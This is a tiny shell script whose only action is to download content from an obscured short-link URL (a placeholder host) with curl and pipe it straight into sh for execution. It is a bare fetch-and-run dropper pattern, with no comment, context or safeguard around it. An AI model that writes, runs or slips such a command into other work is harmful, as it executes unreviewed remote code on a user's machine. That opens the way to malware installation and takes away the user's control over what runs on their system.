#!/bin/sh
sh -c "$(curl -fsSL https://short-link.invalid/x)"
